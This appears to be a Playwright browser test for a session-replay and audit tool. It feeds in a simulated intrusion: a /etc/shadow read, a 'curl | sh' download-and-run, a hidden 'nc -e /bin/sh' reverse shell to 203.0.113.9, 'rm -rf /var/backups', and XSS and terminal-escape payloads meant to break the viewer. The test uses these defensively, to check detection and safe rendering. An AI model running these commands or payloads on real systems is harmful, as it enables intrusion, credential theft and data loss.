/** The session page in real Chromium: the panes follow the replay's clock, and every row seeks to its moment. */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { LineBody } from '#schemas/recording/line.js';
import { exampleFindingRow } from '#stores/events/examples.js';
import { buildPage } from './testing/built-page.js';
import { accessibilityFaults } from './testing/accessible.js';
import { headless, watchPage } from './testing/chromium.js';
import { takePicture } from './testing/pictures.js';
import { replayed } from './testing/replayed.js';
import type { KernelRowOptions } from './testing/replayed.js';
import type { Recorded } from './testing/recorded.js';
import { openStand } from './testing/stand.js';
import type { Stand } from './testing/stand.js';

let folder: string;
let stand: Stand;
let context: BrowserContext;
let page: Page;
let incident: Recorded;
const complaints: string[] = [];

const picture = (name: string): Promise<void> => takePicture(page, name);

const PROMPT = 'deploy@web-3:~$ ';
const typed = (at: number, text: string): (readonly [number, LineBody])[] =>
  [...text, '\r\n'].map((key, i) => [at + i * 60, { code: 'o', data: key }] as const);
const output = (at: number, data: string): readonly [number, LineBody] => [at, { code: 'o', data }];

function incidentLines(): (readonly [number, LineBody])[] {
  return [
    output(100, PROMPT),
    ...typed(2_000, 'ls -la /srv'),
    output(
      3_000,
      'total 24\r\ndrwxr-xr-x 5 root root 4096 Jan 31 12:00 app\r\ndrwxr-xr-x 2 root root 4096 Jan 31 12:00 backup\r\n' + PROMPT,
    ),
    ...typed(14_000, 'sudo cat /etc/shadow'),
    output(16_000, 'root:*:19000:0:99999:7:::\r\ndaemon:*:19000:0:99999:7:::\r\n' + PROMPT),
    ...typed(70_000, 'curl -s http://203.0.113.9/x | sh'),
    output(73_000, 'installing\u001b]8;;http://evil.invalid\u001b\\here\u001b]8;;\u001b\\ <script>alert(1)</script>\r\n' + PROMPT),
    ...typed(100_000, 'cd /tmp && make'),
    ...Array.from({ length: 40 }, (_, i) => output(102_000 + i * 400, `cc -c part${i}.c\r\n`)),
    output(119_000, PROMPT),
    output(125_000, `\u001b]0;<b>title</b>\u0007\r\n${PROMPT}rm -rf /var/backups\r\nremoved\r\n${PROMPT}`),
    ...typed(140_000, 'exit'),
    [142_000, { code: 'x', data: '0' }],
  ];
}

function incidentEvents(): KernelRowOptions[] {
  const rows: KernelRowOptions[] = [];
  let pid = 100;
  const run = (at: number, parent: number, argv: readonly string[], lasts: number, code = 0): number => {
    pid += 1;
    rows.push({ kind: 'fork', offset_ms: at - 2, data: { pid: parent, child: pid } });
    rows.push({
      kind: 'exec',
      offset_ms: at,
      path: `/usr/bin/${argv[0]!}`,
      name: argv.join(' '),
      data: { pid, ppid: parent, argv, uid: 1000, cwd: '/srv' },
    });
    rows.push({ kind: 'file', offset_ms: at + 1, name: 'open', path: '/dev/null', reason: 'write', data: { pid } });
    rows.push({
      kind: 'exit',
      offset_ms: at + lasts,
      name: String(code),
      outcome: code === 0 ? 'success' : 'failure',
      data: { pid, code },
    });
    return pid;
  };
  rows.push({ kind: 'fork', offset_ms: 20, data: { pid: 1, child: 100 } });
  rows.push({ kind: 'exec', offset_ms: 40, path: '/bin/bash', name: '-bash', data: { pid: 100, ppid: 1, argv: ['-bash'], uid: 1000 } });
  run(2_900, 100, ['ls', '-la', '/srv'], 40);
  const sudo = run(15_400, 100, ['sudo', 'cat', '/etc/shadow'], 500);
  rows.push({ kind: 'privilege', offset_ms: 15_500, name: 'setuid', data: { pid: sudo, uid: 0, euid: 0 } });
  rows.push({
    kind: 'file',
    offset_ms: 15_600,
    name: 'open',
    path: '/etc/shadow',
    reason: 'read',
    data: { pid: sudo, matters: 'credentials' },
  });
  const curl = run(72_100, 100, ['curl', '-s', 'http://203.0.113.9/x'], 700);
  rows.push({
    kind: 'dns',
    offset_ms: 72_150,
    name: '<img src=x onerror=alert(1)>.invalid',
    reason: 'A',
    outcome: 'NXDOMAIN',
    data: { pid: curl },
  });
  rows.push({ kind: 'connect', offset_ms: 72_200, address: '203.0.113.9', port: 80, name: 'tcp', data: { pid: curl } });
  const sh = run(72_300, 100, ['sh'], 900);
  const hidden = run(72_900, sh, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'], 60_000);
  rows.push({ kind: 'connect', offset_ms: 72_950, address: '203.0.113.9', port: 4444, name: 'tcp', data: { pid: hidden } });
  const make = run(101_500, 100, ['make'], 17_000, 2);
  for (let i = 0; i < 40; i++) {
    const cc = run(102_000 + i * 400, make, ['cc', '-c', `part${i}.c`], 380, i === 39 ? 1 : 0);
    rows.push({
      kind: 'file',
      offset_ms: 102_100 + i * 400,
      name: 'create',
      path: `/tmp/part${i}.o`,
      reason: 'write,create',
      data: { pid: cc },
    });
    rows.push({
      kind: 'file',
      offset_ms: 102_110 + i * 400,
      name: 'open',
      path: '/tmp/.lock\u202e',
      reason: 'write',
      outcome: 'EAGAIN',
      data: { pid: cc },
    });
  }
  rows.push({
    kind: 'gap',
    offset_ms: 110_000,
    reason: 'kernel_events',
    name: 'ring_full',
    count: 12,
    data: { state: 'gap', why: 'ring_full', count: 12, first_ms: 108_000, last_ms: 110_000 },
  });
  rows.push({ kind: 'exit', offset_ms: 141_900, name: '0', data: { pid: 100, code: 0 } });
  return rows.sort((a, b) => a.offset_ms - b.offset_ms);
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'steno-replay-page-'));
  await buildPage(join(folder, 'web'));
  stand = await openStand(join(folder, 'web'));
  const startedAt = Date.now() - 3_600_000;
  incident = await replayed(
    stand,
    { user: 'mallory', startedAt, state: 'sealed', blocksPerPart: 8, lines: incidentLines() },
    incidentEvents(),
  );
  await stand.events.insert(
    'findings',
    [
      exampleFindingRow({
        ...{
          id: 'replay-page',
          session: incident.id,
          user: 'mallory',
          node: 'web-3',
          login: 'deploy',
          row: null,
          rule: 'steno/shadow-read',
        },
        ...{ at: startedAt + 15_600, offset_ms: 15_600, data: JSON.stringify({ title: 'Shadow file read', reason: 'first time' }) },
      }),
    ],
    'replay page finding',
  );
  context = await chromium.launchPersistentContext(join(folder, 'profile'), { ...headless, viewport: { width: 1440, height: 900 } });
  page = context.pages()[0] ?? (await context.newPage());
  watchPage(page, complaints);
  await page.goto(`${stand.url}/#sign-in=${stand.link('alice', 'all')}`);
  await page.waitForSelector('.row');
}, 120_000);

afterAll(async () => {
  await context?.close();
  await stand?.close();
  await rm(folder, { recursive: true, force: true });
});

/** On a busy machine, a second is too short. */
const soon = <T>(look: () => Promise<T>) => expect.poll(look, { timeout: 60_000 });
const shows = (text: string): Promise<void> => soon(() => page.locator('.ap-term').innerText()).toContain(text);
const open = async (session: Recorded, query = ''): Promise<void> => {
  await page.goto(`${stand.url}/sessions/${session.id}${query}`);
  await page.waitForSelector('.player[data-phase=paused]');
};
const tab = (name: string): Promise<void> => page.locator(`#tab-${name}`).click();
const rowTexts = (phase: string): Promise<string[]> => page.locator(`.pane-row.phase-${phase} .pane-what`).allInnerTexts();

test('commands stand with how each is known, among them what ran unseen; what was printed to look like one never ran', async () => {
  await open(incident);
  await page.waitForSelector('.pane-row.command');
  const text = await page.locator('.virtual').innerText();
  expect(text).toMatch(/ls -la \/srv\s+seen by the kernel/);
  expect(text).toMatch(/nc -e \/bin\/sh 203\.0\.113\.9 4444\s+ran, never shown; started by sh/);
  expect(text).toMatch(/rm -rf \/var\/backups\s+shown, but no program was started for it/);
  expect(await page.locator('.chip').allInnerTexts()).toEqual(['All 7', 'Commands 6', 'Ran, never shown 1', 'Shown, never ran 1']);
  await picture('replay-commands');
  await page.keyboard.press(']');
  await shows('$ ls -la /srv');
  await page.keyboard.press(']');
  await soon(() => page.locator('.pane-row[aria-current]').innerText()).toContain('sudo cat /etc/shadow');
  await page.keyboard.press('[');
  await soon(() => page.locator('.pane-row[aria-current]').innerText()).toContain('ls -la /srv');
  await page.locator('.chip', { hasText: 'Shown, never ran' }).click();
  await page.locator('.pane-row.command').click();
  await shows('rm -rf /var/backups');
});

test('the tree stands as of the moment: a process leads to its start, and scrubbing moves the tree', async () => {
  await open(incident);
  await page.waitForSelector('.lane-program');
  await tab('processes');
  await page.waitForSelector('.pane-row.process');
  await picture('replay-start');
  expect(await rowTexts('now')).toEqual([]);
  await page.locator('.pane-row', { hasText: 'nc -e /bin/sh' }).click();
  await soon(() => rowTexts('now')).toContain('nc -e /bin/sh 203.0.113.9 4444');
  expect(await rowTexts('now')).toContain('-bash');
  expect(await rowTexts('over')).toContain('ls -la /srv');
  expect(await page.locator('.time b').innerText()).toBe('1:12');
  await picture('replay-processes');
  const track = (await page.locator('.track').boundingBox())!;
  await page.mouse.click(track.x + 1, track.y + track.height / 2);
  await soon(() => rowTexts('before')).toContain('ls -la /srv');
  expect(await rowTexts('over')).toEqual([]);
  await page.locator('.pane-toggle').click();
  await soon(() => rowTexts('before')).toEqual([]);
  await page.locator('.pane-toggle').click();
});

test('noise is folded by rule, says how much it is, and is one click away', async () => {
  await tab('files');
  const folded = await page.locator('.virtual').innerText();
  expect(folded).toContain('/etc/shadow');
  expect(folded).toContain('40 times');
  expect(folded).not.toContain('/dev/null');
  expect(await page.locator('.pane-foot').innerText()).toMatch(/Folded away: 4\d of/);
  await picture('replay-files');
  await page.locator('.pane-foot button').click();
  await soon(() => page.locator('.virtual').innerText()).toContain('/dev/null');
  await page.locator('.pane-foot button').click();
  await soon(() => page.locator('.virtual').innerText()).not.toContain('/dev/null');
});

test('connections, and what stands out, lead to their moments', async () => {
  await tab('network');
  await page.locator('.pane-row', { hasText: '203.0.113.9:4444' }).click();
  await soon(() => page.locator('.time b').innerText()).toBe('1:12');
  expect(await page.locator('.virtual').innerText()).toContain('<img src=x onerror=alert(1)>.invalid');
  await tab('notable');
  expect(await page.locator('.virtual').innerText()).toMatch(/read \(credentials\)[\s\S]*\/etc\/shadow/);
  await picture('replay-notable');
});

test('the transcript follows the clock, is searched and leads to the moment of a line', async () => {
  await tab('transcript');
  await page.waitForSelector('.lines li[data-place]');
  await page.locator('.lines li', { hasText: 'daemon:*' }).locator('button').click();
  await shows('daemon:*');
  // The prompt that appeared with it is below it.
  await soon(() => page.locator('.lines li[aria-current]').innerText()).toMatch(/0:16\s+deploy@web-3:~\$/);
  expect(await page.locator('.lines').innerText()).toContain('<script>alert(1)</script>');
  await page.fill('.transcript-bar input', 'part39');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.marker-hit');
  expect(await page.locator('.hits-bar').innerText()).toContain('for');
  await soon(() => page.locator('.lines mark').allInnerTexts()).toEqual(['part39']);
  await page.locator('.hits-bar button', { hasText: 'Next' }).click();
  await soon(() => page.locator('.lines li[aria-current]').innerText()).toContain('part39');
  await picture('replay-transcript');
});

test('the timeline has a lane for what there is, and a press leads to it', async () => {
  await open(incident);
  await page.waitForSelector('.lane-finding .marker');
  // Events and findings arrive in separate responses.
  await soon(() => page.locator('.lane-title').allInnerTexts()).toEqual(['Programs', 'Files', 'Network', 'Privileges', 'Findings', 'Gaps']);
  await page.locator('.lane-finding .marker').click();
  await soon(() => page.locator('.time b').innerText()).toBe('0:15');
  const lane = (await page.locator('.lane-network .lane-track').boundingBox())!;
  await page.mouse.click(lane.x + (lane.width * 72) / 142, lane.y + 6);
  await soon(() => page.locator('.time b').innerText()).toBe('1:12');
  await soon(() => page.locator('.idle').count()).toBeGreaterThan(1);
});

test('by keyboard alone: steps from change to change, through lists, and shows its keys', async () => {
  await open(incident);
  await page.keyboard.press('.');
  await soon(() => page.locator('.ap-term').innerText()).toContain('deploy@web-3');
  for (let i = 0; i < 3; i++) await page.keyboard.press('.');
  await shows('$ ls');
  await page.keyboard.press(',');
  await page.keyboard.press(',');
  await soon(() => page.locator('.ap-term').innerText()).not.toContain('$ ls');
  await page.locator('#tab-commands').focus();
  await page.keyboard.press('ArrowRight');
  await page.waitForSelector('.pane-row.process');
  await page.keyboard.press('Tab');
  await page.keyboard.press('Tab');
  for (let i = 0; i < 3; i++) await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await soon(() => page.locator('.time b').innerText()).not.toBe('0:02');
  await page.locator('.track').focus();
  await page.keyboard.press('?');
  await page.waitForSelector('dialog[open]');
  await picture('replay-keys');
  await page.keyboard.press('Escape');
  expect(await page.locator('dialog[open]').count()).toBe(0);
});

test('whatever is scrubbed over, in each frame that is drawn the panes stand at the moment of the player', async () => {
  const rows = Array.from({ length: 4_000 }, (_, i): KernelRowOptions[] => {
    const [pid, at] = [1_000 + i, 100 + i * 50];
    return [
      { kind: 'fork', offset_ms: at, data: { pid: 100, child: pid } },
      { kind: 'exec', offset_ms: at + 1, path: '/bin/true', name: `true ${i}`, data: { pid, ppid: 100 } },
      { kind: 'exit', offset_ms: at + 40, name: '0', data: { pid, code: 0 } },
    ];
  }).flat();
  const lines = Array.from({ length: 200 }, (_, i) => output(i * 1_000, `second ${i}\r\n`));
  const busy = await replayed(stand, { user: 'busy', state: 'sealed', blocksPerPart: 20, lines }, rows);
  await open(busy);
  await tab('processes');
  await page.waitForSelector('.pane-row.process');
  await page.evaluate(`
    window.frames_ = { seen: 0, distance: [] };
    (function look() {
      const player = document.querySelector('.time b').textContent;
      const panes = document.querySelector('.pane-summary').textContent;
      frames_.seen += 1;
      if (!panes.endsWith(' at ' + player)) frames_.distance.push(player + ' / ' + panes);
      requestAnimationFrame(look);
    })();
  `);
  const track = (await page.locator('.track').boundingBox())!;
  await page.mouse.move(track.x + 5, track.y + 25);
  await page.mouse.down();
  for (let i = 1; i <= 60; i++) await page.mouse.move(track.x + (track.width * i) / 60 - 3, track.y + 25);
  await page.mouse.up();
  await soon(() => page.locator('.pane-row.phase-over').first().innerText()).toContain('true');
  await page.keyboard.press('Space');
  await soon(() => page.locator('.player').getAttribute('data-phase')).toBe('ended');
  const { seen, distance } = await page.evaluate<{ seen: number; distance: string[] }>('frames_');
  expect(seen).toBeGreaterThan(20);
  expect(distance).toEqual([]);
  expect(await page.locator('.virtual > li').count()).toBeLessThan(60);
});

test.each(['commands', 'processes', 'files', 'network', 'notable', 'transcript'])(
  'axe finds nothing serious on the page with %s, by day and by night',
  async (name) => {
    await open(incident, '?q=part39&mode=substring&t=73500');
    await page.waitForSelector('.lane-finding .marker');
    await tab(name);
    await page.waitForSelector(name === 'transcript' ? '.lines mark' : '.virtual > li');
    expect(await accessibilityFaults(page, ['.terminal'])).toEqual([]);
  },
);

test('a watermark that a role asks for stands over player, panes and facts, in full screen too, and nothing recorded gets above it', async () => {
  stand.role('marked', { view: 'all', watermark: true, allow: { rules: [{ resources: ['finding'], verbs: ['read'] }] } });
  const white = await replayed(stand, {
    user: 'mallory',
    state: 'sealed',
    lines: [output(10, `\u001b[?1049h\u001b[107;97m${'\u001b[2J'}all white\u001b[5;1H<svg style="z-index:99">`)],
  });
  await page.goto(`${stand.url}/#sign-in=${stand.link('wanda', 'marked')}`);
  await soon(() => page.locator('.who').innerText()).toContain('wanda');
  for (const session of [incident, white]) {
    await open(session, session === white ? '?t=10' : '?t=73500');
    await page.waitForSelector('.below .watermark');
    const said = await page.locator('.watermark').evaluateAll((marks) => marks.map((mark) => mark.getAttribute('data-watermark')));
    expect(said).toEqual(Array.from({ length: 3 }, () => expect.stringMatching(/^wanda, \d{4}-\d\d-\d\d \d\d:\d\d UTC$/)));
    for (const box of ['.player', '.panes', '.below']) {
      // Nothing of the box is drawn above it, and it takes no clicks.
      const above = await page.evaluate<{ covers: boolean; last: boolean; clicks: string }>(`(() => {
        const box = document.querySelector('${box}');
        const mark = box.querySelector(':scope > .watermark');
        const [outer, inner] = [box.getBoundingClientRect(), mark.getBoundingClientRect()];
        const order = Math.max(...[...box.querySelectorAll('*')].filter((each) => !mark.contains(each)).map((each) => Number(getComputedStyle(each).zIndex) || 0));
        return {
          covers: inner.width >= outer.width - 4 && inner.height >= outer.height - 4,
          last: Number(getComputedStyle(mark).zIndex) > order,
          clicks: getComputedStyle(mark).pointerEvents,
        };
      })()`);
      expect(above, box).toEqual({ covers: true, last: true, clicks: 'none' });
    }
    await (session === white ? picture('watermark-white') : picture('watermark'));
  }
  await page.keyboard.press('f');
  await soon(() => page.evaluate<boolean>(`document.fullscreenElement?.querySelector(':scope > .watermark') != null`)).toBe(true);
  await page.keyboard.press('f');
  await page.goto(`${stand.url}/#sign-in=${stand.link('alex', 'all')}`);
  await soon(() => page.locator('.who').innerText()).toContain('alex');
  await open(white);
  expect(await page.locator('.watermark').count()).toBe(0);
});

test('nothing of the recording ran in the page', () => expect(complaints).toEqual([]));
